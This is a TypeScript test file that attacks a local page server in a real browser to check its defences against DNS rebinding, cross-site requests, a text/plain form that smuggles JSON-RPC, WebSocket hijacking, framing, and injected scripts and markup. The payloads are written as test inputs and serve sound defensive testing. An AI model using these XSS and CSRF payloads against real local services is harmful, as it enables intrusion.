// Attacks on the pages by other pages, in a real browser: what a foreign site, a foreign port and a rebound name can do to
// a page server. Each is seen from both ends: what the script of the attacker got, and what the server let in.

import assert from 'node:assert/strict'
import { once } from 'node:events'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, test, type TestContext } from 'node:test'
import { pathToFileURL } from 'node:url'
import { PageServer } from '../../src/gateway/index.ts'
import { slow } from '../end-to-end/slow.ts'
import { browserOrSkip, TestBrowser, type WatchedPage } from './browser.ts'

const mode = { ...slow, ...browserOrSkip }
const rebound = '--host-resolver-rules=MAP evil.test 127.0.0.1'

/** It says that it ran, and whether it may make code of text. */
const scriptOfPage = `globalThis.ran = true
try { new Function('globalThis.evaluated = true')() } catch {}
document.title += ' ran'`

interface Target {
  readonly server: PageServer
  readonly token: string
  /** What got past every guard. */
  readonly heard: string[]
}

/** A page server with a page of its own, whose script says that it ran. */
async function openTarget(context: TestContext, body = ''): Promise<Target> {
  const folder = mkdtempSync(join(tmpdir(), 'parley-safety-'))
  context.after(() => rmSync(folder, { recursive: true, force: true }))
  mkdirSync(join(folder, 'assets'))
  const document = `<!doctype html><title>peer</title><body>${body}<script type="module" src="/assets/app.js"></script></body>`
  writeFileSync(join(folder, 'peer.html'), document)
  writeFileSync(join(folder, 'assets/app.js'), scriptOfPage)
  const heard: string[] = []
  const server = await PageServer.open({
    port: 0,
    page: 'peer',
    assets: pathToFileURL(`${folder}/`),
    connect: ({ send }) => {
      heard.push('connected')
      return {
        receive: (text) => {
          heard.push(text)
          send('{"jsonrpc":"2.0","id":1,"result":"secret"}')
        },
        close: () => undefined,
      }
    },
  })
  context.after(() => server.close())
  return { server, token: server.token.text, heard }
}

/** The attacker's own site, under any name and at another port. */
async function openSite(context: TestContext, document: string): Promise<number> {
  const server: Server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end(document)
  }).listen(0, '127.0.0.1')
  context.after(() => {
    server.closeAllConnections()
    server.close()
  })
  await once(server, 'listening')
  return (server.address() as AddressInfo).port
}

async function openAttacker(
  context: TestContext,
  name: string,
  document = '<!doctype html><title>evil</title>',
): Promise<WatchedPage> {
  const port = await openSite(context, document)
  const browser = await TestBrowser.open(context, [rebound])
  return browser.newPage(`http://${name}:${port}/`)
}

/** The status of the next answer as the browser's own network saw it, though no script may. */
async function nextStatus({ page }: WatchedPage, method: string, url: string): Promise<() => Promise<number>> {
  const network = await page.context().newCDPSession(page)
  await network.send('Network.enable')
  const wanted = new Set<string>()
  const status = new Promise<number>((resolve) => {
    network.on('Network.requestWillBeSent', ({ requestId, request }) => {
      if (request.method === method && request.url === url) wanted.add(requestId)
    })
    network.on('Network.responseReceivedExtraInfo', ({ requestId, statusCode }) => {
      if (wanted.has(requestId)) resolve(statusCode)
    })
  })
  return async () => {
    const found = await status
    await network.detach()
    return found
  }
}

/** Of RequestInit what can be handed to a page. */
interface FetchOptions {
  readonly method?: string
  readonly mode?: 'no-cors'
  readonly credentials?: 'include'
  readonly headers?: Record<string, string>
  readonly body?: string
}

/** What a script gets: a status and a text, or the kind of its error. */
function fetchFrom({ page }: WatchedPage, url: string, init: FetchOptions = {}): Promise<string> {
  return page.evaluate(
    async ([address, options]) => {
      try {
        const response = await fetch(address, options)
        return `${response.type} ${response.status} ${await response.text()}`
      } catch (error) {
        return (error as Error).name
      }
    },
    [url, init] as [string, FetchOptions],
  )
}

function webSocketFrom({ page }: WatchedPage, url: string, token: string): Promise<string> {
  return page.evaluate(
    ([address, secret]) =>
      new Promise<string>((resolve) => {
        const webSocket = new WebSocket(address, ['parley', `token.${secret}`])
        webSocket.addEventListener('open', () => resolve('open'))
        webSocket.addEventListener('close', ({ code }) => resolve(`closed ${code}`))
      }),
    [url, token] as [string, string],
  )
}

function callOptions(token: string): FetchOptions {
  return {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` },
    body: '{"jsonrpc":"2.0","id":1,"method":"status","params":{}}',
  }
}

describe('the page itself', () => {
  test('loads, calls and opens a WebSocket with its token, under both of its names', mode, async (t) => {
    const { server, token, heard } = await openTarget(t)
    const browser = await TestBrowser.open(t)
    for (const name of ['127.0.0.1', 'localhost']) {
      const origin = `http://${name}:${server.port}`
      const watched = await browser.newPage(`${origin}/`)
      await watched.page.waitForFunction(() => document.title === 'peer ran')
      assert.match(await fetchFrom(watched, '/rpc', callOptions(token)), /^basic 200 .*secret/)
      assert.equal(await webSocketFrom(watched, `ws://${name}:${server.port}/rpc`, token), 'open')
      const faults = watched.faults.filter((fault) => !fault.includes('favicon'))
      assert.deepEqual(faults, ['console: policy: script-src refused eval'])
    }
    assert.equal(heard.filter((text) => text === 'connected').length, 4)
  })

  test('is opened by the link without the token in it, once', mode, async (t) => {
    const { server, token } = await openTarget(t)
    const browser = await TestBrowser.open(t)
    const link = server.linkOnce(() => undefined)
    const { page } = await browser.newPage(link)
    assert.equal(page.url(), `http://127.0.0.1:${server.port}/#token=${token}`)
    const second = await browser.newPage()
    assert.equal((await second.page.goto(link))?.status(), 404)
  })
})

describe('a name that was made to lead to this machine (DNS rebinding)', () => {
  test('gets nothing, though its script has the token', mode, async (t) => {
    const { server, token, heard } = await openTarget(t)
    const browser = await TestBrowser.open(t, [rebound])
    const watched = await browser.newPage()
    const origin = `http://evil.test:${server.port}`
    assert.equal((await watched.page.goto(`${origin}/`))?.status(), 403)
    for (const path of ['/', '/healthz', '/assets/app.js']) {
      assert.match(await fetchFrom(watched, `${origin}${path}`), /^basic 403 (?!.*ran)/, path)
    }
    assert.match(await fetchFrom(watched, `${origin}/rpc`, callOptions(token)), /^basic 403 (?!.*secret)/)
    assert.match(await webSocketFrom(watched, `ws://evil.test:${server.port}/rpc`, token), /^closed/)
    assert.deepEqual(heard, [])
  })
})

describe('another site', () => {
  test('cannot call: not by a simple request, nor by one that asks first', mode, async (t) => {
    const { server, token, heard } = await openTarget(t)
    const url = `${server.origin}/rpc`
    const attacker = await openAttacker(t, 'evil.test')
    for (const type of ['text/plain', 'application/x-www-form-urlencoded']) {
      const status = await nextStatus(attacker, 'POST', url)
      const options = { ...callOptions(token), mode: 'no-cors', headers: { 'content-type': type } } as const
      await fetchFrom(attacker, url, options)
      assert.equal(await status(), 403)
    }
    assert.equal(await fetchFrom(attacker, url, callOptions(token)), 'TypeError')
    assert.equal(await fetchFrom(attacker, url, { ...callOptions(token), credentials: 'include' }), 'TypeError')
    // What was refused is each time the question before the call: the calls themselves never left the browser.
    const unasked = attacker.faults.filter((fault) => /preflight/.test(fault))
    assert.equal(unasked.length, 2, attacker.faults.join('\n'))
    assert.deepEqual(heard, [])
  })

  test('cannot post a form', mode, async (t) => {
    const { server, heard } = await openTarget(t)
    const form = `<!doctype html><form method="post" enctype="text/plain" action="${server.origin}/rpc">
      <input name='{"jsonrpc":"2.0","id":1,"method":"status","x":"' value='"}'></form>`
    const attacker = await openAttacker(t, 'evil.test', form)
    const status = await nextStatus(attacker, 'POST', `${server.origin}/rpc`)
    await attacker.page.evaluate(() => (document.querySelector('form') as HTMLFormElement).submit())
    assert.equal(await status(), 403)
    assert.deepEqual(heard, [])
  })

  test('cannot open a WebSocket, though it has the token', mode, async (t) => {
    const { server, token, heard } = await openTarget(t)
    const attacker = await openAttacker(t, 'evil.test')
    for (const name of ['127.0.0.1', 'localhost']) {
      assert.match(await webSocketFrom(attacker, `ws://${name}:${server.port}/rpc`, token), /^closed/)
    }
    assert.deepEqual(heard, [])
  })

  test('cannot put the page into a frame', mode, async (t) => {
    const { server } = await openTarget(t)
    const frames = `<!doctype html><iframe src="${server.origin}/"></iframe>`
    const attacker = await openAttacker(t, 'evil.test', frames)
    await attacker.page.waitForFunction(() => document.readyState === 'complete')
    const [, frame] = attacker.page.frames()
    assert.ok(frame !== undefined)
    assert.equal(await frame.evaluate(() => 'ran' in globalThis), false)
    assert.ok(
      attacker.faults.some((fault) => fault.includes('frame-ancestors')),
      attacker.faults.join('\n'),
    )
  })
})

describe('a page of another port of this machine', () => {
  test('cannot read the page, load its scripts, nor call', mode, async (t) => {
    const { server, token, heard } = await openTarget(t)
    const attacker = await openAttacker(t, '127.0.0.1')
    for (const path of ['/', '/healthz', '/assets/app.js']) {
      assert.equal(await fetchFrom(attacker, `${server.origin}${path}`), 'TypeError', path)
      assert.equal(await fetchFrom(attacker, `${server.origin}${path}`, { mode: 'no-cors' }), 'TypeError', path)
    }
    assert.equal(await fetchFrom(attacker, `${server.origin}/rpc`, callOptions(token)), 'TypeError')
    assert.match(await webSocketFrom(attacker, `ws://127.0.0.1:${server.port}/rpc`, token), /^closed/)
    const loaded = await attacker.page.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          const script = Object.assign(document.createElement('script'), { src })
          script.addEventListener('load', () => resolve('loaded'))
          script.addEventListener('error', () => resolve('refused'))
          document.head.append(script)
        }),
      `${server.origin}/assets/app.js`,
    )
    assert.equal(loaded, 'refused')
    assert.deepEqual(heard, [])
  })
})

describe('a script that got into the page', () => {
  test('does not run, and what does run loads nothing from elsewhere and sends nothing there', mode, async (t) => {
    const evilPort = await openSite(t, 'globalThis.owned = "foreign"')
    const evil = `http://127.0.0.1:${evilPort}`
    const { server } = await openTarget(
      t,
      `<script>globalThis.owned = 'inline'</script>
      <script src="${evil}/x.js"></script>
      <img src="x" onerror="globalThis.owned = 'handler'">
      <a href="javascript:globalThis.owned = 'link'">link</a>
      <svg onload="globalThis.owned = 'svg'"></svg>
      <iframe srcdoc="<script>parent.owned = 'frame'</script>"></iframe>
      <object data="${evil}/"></object>
      <base href="${evil}/">
      <style>body { color: rgb(1, 2, 3) }</style>
      <form action="${evil}/" id="form"></form>`,
    )
    const browser = await TestBrowser.open(t)
    const { page, faults, requests } = await browser.newPage(`${server.origin}/`)
    await page.waitForFunction(() => document.title === 'peer ran')
    await page.click('a')
    assert.equal(await page.evaluate(() => (globalThis as { owned?: string }).owned), undefined)
    assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).color), 'rgb(1, 2, 3)')
    const watched = { page, faults, requests }
    assert.equal(await fetchFrom(watched, `${evil}/`), 'TypeError')
    assert.equal(await page.evaluate(() => 'evaluated' in globalThis), false)
    await page.evaluate((src) => document.body.append(Object.assign(new Image(), { src })), `${evil}/pixel.png`)
    await page.evaluate(() => (document.querySelector('#form') as HTMLFormElement).submit())
    const refused = [
      'script-src-elem',
      'script-src-attr',
      'img-src',
      'connect-src',
      'base-uri',
      'style-src-elem',
      'form-action',
    ]
    for (const directive of refused) {
      await page.waitForFunction(() => document.readyState === 'complete')
      assert.ok(
        faults.some((fault) => fault.includes(`policy: ${directive}`)),
        `${directive}\n${faults.join('\n')}`,
      )
    }
    assert.equal(page.url(), `${server.origin}/`)
  })
})
